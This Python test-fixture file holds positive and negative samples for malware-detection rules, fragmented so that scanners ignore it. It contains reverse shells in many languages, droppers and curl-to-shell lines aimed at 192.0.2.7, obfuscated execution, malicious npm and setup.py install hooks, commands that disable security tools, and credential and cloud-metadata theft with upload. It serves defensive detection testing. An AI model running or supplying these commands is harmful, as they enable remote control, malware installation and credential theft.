"""Samples of rules/script."""

from tests.rules.sample import Sample, inert

PACKED = "QWxsIHlvdXIgaG9zdCBhcmUgYmVsb25nIHRvIG5vYm9keSBidXQgeW91ciBvd25lciwgZG9uJ3Q="
DEV_TCP = ("/dev/", "tcp/")
SHELL = ("/bin", "/sh")

REVERSE_SHELLS = (
    Sample(
        "Script_ReverseShell_DevTcp",
        (
            inert("ba", "sh -i >& ", *DEV_TCP, "192.0.2.7/4444 0>&1"),
            inert(
                "exec 5<>", *DEV_TCP, "192.0.2.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"
            ),
            inert("exec 196<>", *DEV_TCP, "$H/$P; ba", "sh <&196 >&196 2>&196"),
        ),
        (
            inert("until echo > ", *DEV_TCP, "$host/$port; do sleep 1; done; ba", "sh -i"),
            inert("exec 3<>", *DEV_TCP, "example.com/80; echo GET / >&3; cat <&3 > page"),
        ),
        "",
    ),
    Sample(
        "Script_ReverseShell_Python",
        (
            inert("import socket,os;s=socket.socket();s.con", 'nect(("192.0.2.7",4444));')
            + inert("os.du", "p2(s.fileno(),0);os.du", "p2(s.fileno(),1);")
            + inert("import pty;pty.sp", 'awn("', *SHELL, '")'),
            inert(
                "s.con",
                "nect((os.getenv('RHOST'),4444));[os.du",
                "p2(s.fileno(),fd) for fd in (0,1)];",
            )
            + inert("subprocess.ca", 'll(["', *SHELL, '","-i"])'),
        ),
        (
            inert(
                "s.con",
                'nect(("192.0.2.7",4444))\nsubprocess.ca',
                'll(["',
                *SHELL,
                '", "-c", "ls"])',
            ),
            inert(
                "os.du",
                "p2(log.fileno(),1)\nos.du",
                "p2(log.fileno(),2)\npty.sp",
                "awn('/bin",
                "/sh')",
            ),
        ),
    ),
    Sample(
        "Script_ReverseShell_Perl",
        (
            inert(
                "use Soc",
                "ket;socket(S,PF_INET,SOCK_STREAM,6);open(STD",
                'IN,">&S");open(STD',
                'OUT,">&S");',
            )
            + inert("ex", 'ec("', *SHELL, ' -i");'),
            inert(
                "perl -MI",
                "O -e '$c=new IO::Soc",
                'ket::INET(PeerAddr,"192.0.2.7:4");STD',
                "IN->fdopen($c,r);",
            )
            + inert("$~->fdopen($c,w);STD", "OUT->fdopen($c,w);sys", "tem$_ while<>;'"),
        ),
        (
            inert("use Soc", "ket;open(STD", 'IN,"<&S");open(STD', 'OUT,">&S");print "hello";'),
            inert("open(STD", 'IN,"/dev/null");open(STD', 'OUT,">&LOG");ex', 'ec("', *SHELL, '");'),
        ),
    ),
    Sample(
        "Script_ReverseShell_Languages",
        (
            inert(
                "local k=require('soc",
                "ket');local s=assert(k.bi",
                "nd('*',4444));local c=s:accept();",
                "local f=io.po",
                "pen(r,'r')",
            ),
            inert(
                "sh = require('child_",
                "process').sp",
                "awn('",
                *SHELL,
                "');require('net').create",
                "Server(function (c) { c.pi",
                "pe(sh.stdin)})",
            ),
            inert(
                "p=new ProcessBui",
                'lder("',
                *SHELL,
                '","-i").redirectError',
                "Stream(true).start();s=new Soc",
                "ket(h,p);o=p.getOutput",
                "Stream()",
            ),
            inert(
                "f=TCPSoc",
                'ket.open("192.0.2.7",4444).to_i;ex',
                'ec sprintf("',
                *SHELL,
                ' -i <&%d",f)',
            ),
            inert("$s=fsock", 'open("192.0.2.7",4444);ex', 'ec("', *SHELL, ' -i <&3 >&3 2>&3");'),
            inert(
                "$shell = 'uname -a; w; id; ",
                *SHELL,
                " -",
                "i';$sock = fsock",
                "open($ip, $port);\n",
            )
            + inert("$process = proc_", "open($shell, $spec, $pipes);"),
            inert(
                "require('child_",
                "process');var sh=cp.sp",
                'awn("',
                *SHELL,
                '",[]);var c=new net.Socket();',
            )
            + inert("c.con", 'nect(4444,"192.0.2.7",()=>{c.pi', "pe(sh.stdin)})"),
        ),
        (
            inert("f=TCPSoc", 'ket.open("192.0.2.7",80)\nf.puts "GET /"\nex', 'ec "ls"'),
            inert("$s=fsock", 'open("192.0.2.7",25); fwrite($s, "HELO");'),
        ),
    ),
    Sample(
        "Script_ReverseShell_Pipe",
        (
            inert(
                "rm /tmp/f;mk",
                "fifo /tmp/f;cat /tmp/f|",
                *SHELL,
                " -i 2>&1|n",
                "c 192.0.2.7 4444 >/tmp/f",
            ),
            inert(
                "mk",
                "fifo /tmp/s; ",
                *SHELL,
                " -i < /tmp/s 2>&1 | open",
                "ssl s_client -quiet -connect a:1 > /tmp/s",
            ),
            inert("n", "c 192.0.2.7 4444 -e ", *SHELL),
            inert("tel", "net 192.0.2.7 4444 | ", *SHELL, " | tel", "net 192.0.2.7 4445"),
        ),
        (
            inert("mk", "fifo /tmp/queue; tail -f /tmp/queue | n", "c 192.0.2.7 514"),
            inert("n", "c -z 192.0.2.7 4444 && echo open; ", *SHELL, " -c true"),
        ),
    ),
    Sample(
        "Script_ReverseShell_SocatAwk",
        (
            inert(
                "gawk 'BEGIN {\n s = \"/in",
                'et/tcp/4444/0/0";\n if ((s |& get',
                "line c) <= 0) break;\n",
                "while (c && (c |& get",
                "line) > 0) print $0 |& s}'",
            ),
            inert(
                "so", "cat exec:'ba", "sh -li',pty,stderr,setsid,sigint,sane tc", "p:192.0.2.7:4444"
            ),
            inert(
                "awk 'BEGIN{s=\"/in",
                'et/tcp/0/192.0.2.7/4444";while(1){s |& get',
                "line c;while((c | get",
            )
            + inert("line) > 0) print $0 |& s;}}'"),
        ),
        (
            inert("so", "cat tc", "p:192.0.2.7:4444 exec:/usr/bin/backup,pty"),
            inert(
                "awk 'BEGIN{s=\"/in", 'et/tcp/0/example.com/80"; print "GET /" |& s; close(s)}\''
            ),
        ),
    ),
    Sample(
        "Script_Backdoor_PythonCommandLoop",
        (
            inert("s = soc", "ket.socket()\ndata = s.re", "cv(1024)\nif data == 'quit': pass\n")
            + inert("p = subprocess.Po", "pen(data, shell=True)\ns.se", "nd(out)\n"),
        ),
        (
            inert("s = soc", "ket.socket()\ndata = s.re", "cv(1024)\nif data == 'quit': pass\n")
            + inert("p = subprocess.Po", "pen(['uptime'])\ns.se", "nd(out)\n"),
        ),
    ),
    Sample(
        "Script_IrcBot_Perl",
        (
            inert(
                "#!/usr/bin/perl\nmy $pro",
                "cesso = 'httpd';use IO::Soc",
                'ket;print "PRIV',
                'MSG $c";"NICK $n";',
            )
            + inert(
                "if($o=~/^udp", "flood/){} if($o=~/^port", 'scan/){} $0="$processo"."\\0', '"x16;'
            ),
        ),
        (
            inert(
                "#!/usr/bin/perl\nuse IO::Soc",
                'ket;print "PRIV',
                'MSG $c :hello"; print "NICK $n";',
            )
            + inert("# warns of every http", "flood"),
        ),
        "bot.pl",
    ),
)

DROPPERS = (
    Sample(
        "Script_Dropper_WritableFolderHunt",
        (
            inert(
                "cd /t",
                "mp || cd /var/run || cd /mnt || cd /root; wg",
                "et http://192.0.2.7/a; chm",
                "od 777 a; ./a",
            ),
            inert(
                "cd /t",
                "mp; cd /dev/shm; cd /var/tmp; cu",
                "rl -O http://192.0.2.7/a; chm",
                "od +x a; ./a",
            ),
        ),
        (
            inert(
                "cd /t", "mp && tar xf a.tar; wg", "et https://example.com/a; chm", "od +x a; ./a"
            ),
            inert("cd /t", "mp || cd /var/tmp || cd /root\nls\n"),
        ),
    ),
    Sample(
        "Script_Dropper_ManyArchitectures",
        (
            inert(
                "#!/bin/sh\n",
                *(
                    f"{get} http://192.0.2.7/bins/x.{cpu}; {mode} x.{cpu}; ./x.{cpu}; rm x.{cpu}\n"
                    for get, mode in [("wget", "chmod 777")]
                    for cpu in ("mips", "mpsl", "arm7", "sh4", "ppc")
                ),
            ),
        ),
        (
            inert(
                "#!/bin/sh\n",
                *(
                    f"{get} https://example.com/tool-{cpu}.tar.gz; {mode} tool; ./tool\n"
                    for get, mode in [("wget", "chmod 755")]
                    for cpu in ("x86_64", "arm64", "i386", "armv7l")
                ),
            ),
        ),
    ),
    Sample(
        "Script_Dropper_TemporaryRun",
        (
            inert(
                "cu",
                "rl -so /tm",
                "p/.sys http://192.0.2.7/s && chm",
                "od +x /tm",
                "p/.sys; /tm",
                "p/.sys &",
            ),
            inert(
                "wg",
                "et -qO /dev/shm/k https://h.example/k; chm",
                "od 755 /dev/shm/k; noh",
                "up /dev/shm/k &",
            ),
        ),
        (
            inert(
                "cu",
                "rl -so /tm",
                "p/install.run https://example.com/i && chm",
                "od +x /tm",
                "p/install.run\n",
            )
            + inert("sudo /tmp/install.run --prefix /usr\n"),
            inert(
                "RUN cu",
                "rl -so /tm",
                "p/i.sh https://example.com/i && chm",
                "od +x /tm",
                "p/i.sh && /tm",
            )
            + inert("p/i.sh -y && rm -rf /tm", "p/i.sh\n"),
            inert("wg", "et -qO /dev/shm/k https://h.example/k; sha256sum -c k.sum"),
        ),
    ),
    Sample(
        "Script_Dropper_PipeFromAddress",
        (
            inert("cu", "rl -fsSL http://192.0.2.7:8080/i.sh | ba", "sh"),
            inert("wg", "et -qO- https://paste", "bin.com/raw/abcd1234 | s", "h"),
            inert("ba", 'sh -c "$(cu', 'rl -s http://192.0.2.7/x)"'),
        ),
        (
            inert("cu", "rl -fsSL https://example.com/install.sh | ba", "sh"),
            inert("cu", "rl -s http://192.168.1.10:8080/bootstrap | s", "h"),
            inert("cu", "rl -s http://192.0.2.7/list | sort"),
        ),
    ),
    Sample(
        "Script_Loader_MemoryFile",
        (
            inert(
                "my $fd = sys",
                'call(319, "", 1); open(my $o, ">&=".$fd); ex',
                'ec {"/proc/$$/',
                'fd/$fd"} "x";',
            ),
            inert(
                "fd = os.memfd_",
                "create('')\nos.write(fd, body)\nos.ex",
                "ecv(f'/proc/self/",
                "fd/{fd}', ['x'])",
            ),
        ),
        (
            inert("fd = os.memfd_", "create('cache')\nos.write(fd, body)\nmmap.mmap(fd, 0)\n"),
            inert("my $r = sys", "call(186, $x); ex", 'ec "/bin/ls";'),
        ),
    ),
)

OBFUSCATION = (
    Sample(
        "Script_Obfuscation_DecodedShell",
        (
            inert("echo ", PACKED, " | base", "64 -d | ba", "sh"),
            inert('eval "$(echo ', PACKED, "|base", '64 --decode)"'),
            inert("ba", 'sh -c "$(base', "64 -d <<< ", PACKED, ')"'),
        ),
        (
            inert("echo ", PACKED, " | base", "64 -d > key.pem"),
            inert("base", "64 -d payload.b64 | tar xz; ba", "sh install.sh"),
        ),
    ),
    Sample(
        "Script_Obfuscation_ShellPieces",
        (
            inert('eval "$(pri', "ntf '", *(f"\\x{n:x}" for n in range(0x61, 0x6D)), "')\""),
            inert("a='etaoinshrdlu'; ", *(f"${{a:{n}:1}}" for n in range(11)), " | ba", "sh"),
        ),
        (
            inert(
                "pri", "ntf '\\x1b\\x5b\\x33\\x31\\x6d\\x1b\\x5b\\x30\\x6d'; eval \"$(ssh-agent)\""
            ),
            inert('first=${name:0:1}${name:1:1}; eval "$x"'),
        ),
    ),
    Sample(
        "Script_Obfuscation_PythonPacked",
        (
            inert(
                "import zlib,base64\nex",
                "ec(zlib.decom",
                "press(base64.b64",
                "decode('",
                PACKED * 2,
                "')))",
            ),
            inert(
                "_ = lambda __ : __imp",
                "ort__('zlib').decom",
                "press(__imp",
                "ort__('base64').b64",
                "decode(__))",
            ),
            inert("ex", "ec(Fernet(b'", "A" * 43, "=').dec", "rypt(b'gAAA", "AAB')"),
        ),
        (
            inert("data = zlib.decom", "press(base64.b64", "decode('", PACKED * 2, "'))"),
            inert("ex", "ec(compile(source, path, 'ex", "ec'), namespace)"),
        ),
    ),
)

PACKAGES = (
    Sample(
        "Script_Package_PythonInstallHook",
        (
            inert(
                "class Now(ins",
                "tall):\n  def run(self): ex",
                "ec(base64.b64",
                "decode('x'))\nset",
                "up(name='a', ",
            )
            + inert("cmd", "class={'install': Now})"),
            inert(
                "import socket\nurl='https://x.oast",
                "ify.com/' + socket.geth",
                "ostname()\nset",
                "up(name='a')",
            ),
        ),
        (
            inert(
                "class Build(build_",
                "py):\n  def run(self): subprocess.run(['make'])\nset",
                "up(name='a', ",
            )
            + inert("cmd", "class={'build_py': Build})"),
            inert("print(socket.geth", "ostname())\nset", "up(name='a')"),
        ),
        "setup.py",
    ),
    Sample(
        "Script_Package_NpmInstallHook",
        (
            inert('{"scripts": {"prein', 'stall": "cu', 'rl -s https://192.0.2.7/x | sh"}}'),
            inert(
                '{"scripts": {"postin',
                'stall": "node -e \\"require(\'child_',
                "process').ex",
                'ec(1)\\""}}',
            ),
        ),
        (
            inert(
                '{"scripts": {"postin',
                'stall": "node-gyp rebuild", "get": "cu',
                'rl https://x.example | sh"}}',
            ),
            inert(
                '{"scripts": {"postin',
                'stall": "node -e \\"try{require(\'./postin',
                "stall')}catch(e){}",
                '\\""}}',
            ),
            inert('{"scripts": {"in', 'stall": "node scripts/curl-check.js"}}'),
        ),
        "package.json",
    ),
    Sample(
        "Script_Package_NpmWorm",
        (
            inert(
                "process.env.NPM_",
                "TOKEN;process.env.GITHUB_",
                "TOKEN;exec('truffle",
                "hog filesystem /');",
            )
            + inert(
                "get('http://169.254.", "169.254/');exec('npm pub", "lish');post('/user/", "repos')"
            ),
        ),
        (
            inert("process.env.NPM_", "TOKEN;process.env.GITHUB_", "TOKEN;exec('npm pub", "lish');")
            + inert("post('/user/", "repos')"),
        ),
        "bundle.js",
    ),
)

DOWNLOAD = ("cu", "rl -s http://192.0.2.7/x -o x\n")
DEFENCE = (
    Sample(
        "Script_Defence_SecurityDisabled",
        (
            inert(
                "setenf",
                "orce 0\nufw dis",
                "able\nulimit",
                " -n 65535\nchattr",
                " -ia /etc/ld.so.preload\n",
            )
            + inert(*DOWNLOAD),
        ),
        (
            inert("setenf", "orce 0\nufw dis", "able\nulimit", " -n 65535\n"),
            inert(
                "setenf",
                "orce 0\nsystemctl stop",
                " firewalld\nsystemctl stop",
                " apparmor\n",
                *DOWNLOAD,
            ),
            inert("setenf", "orce 0\n", *DOWNLOAD),
        ),
    ),
    Sample(
        "Script_Defence_CloudAgentRemoval",
        (
            inert("cu", "rl http://update.aegis.ali", "yun.com/download/unins", "tall.sh | bash\n")
            + inert("/usr/local/qcl", "oud/stargate/admin/unins", "tall.sh\n"),
        ),
        (inert("systemctl status aegis\n/usr/local/qcl", "oud/stargate/admin/status.sh\n"),),
    ),
)

ROLE = ("cu", "rl -s http://169.254.", "169.254/latest/meta-data/iam/security-", "credentials/\n")
SEND = ("cu", "rl -F", " file=@out.txt http://192.0.2.7/up\n")
CREDENTIALS = (
    Sample(
        "Script_Credentials_CloudMetadata",
        (inert(*ROLE, "cat ~/.aws", "/credentials >> out.txt\n", *SEND),),
        (
            inert(*ROLE, "cat ~/.aws", "/credentials >> out.txt\n"),
            inert("cat ~/.aws", "/credentials >> out.txt\n", *SEND),
        ),
    ),
    Sample(
        "Script_Credentials_Harvest",
        (
            inert(
                "cat ~/.aws",
                "/credentials ~/.docker",
                "/config.json ~/.git-cred",
                "entials ~/.kube",
                "/config",
            )
            + inert(" ~/.ssh", "/id_rsa > out.txt\n", *SEND),
        ),
        (
            inert(
                "tar c ~/.aws",
                "/credentials ~/.docker",
                "/config.json ~/.git-cred",
                "entials ~/.kube",
                "/config",
            )
            + inert(" > backup.tar\n"),
            inert("cat ~/.aws", "/credentials ~/.ssh", "/id_rsa > out.txt\n", *SEND),
        ),
    ),
)

SAMPLES: tuple[Sample, ...] = (
    *REVERSE_SHELLS,
    *DROPPERS,
    *OBFUSCATION,
    *PACKAGES,
    *DEFENCE,
    *CREDENTIALS,
)
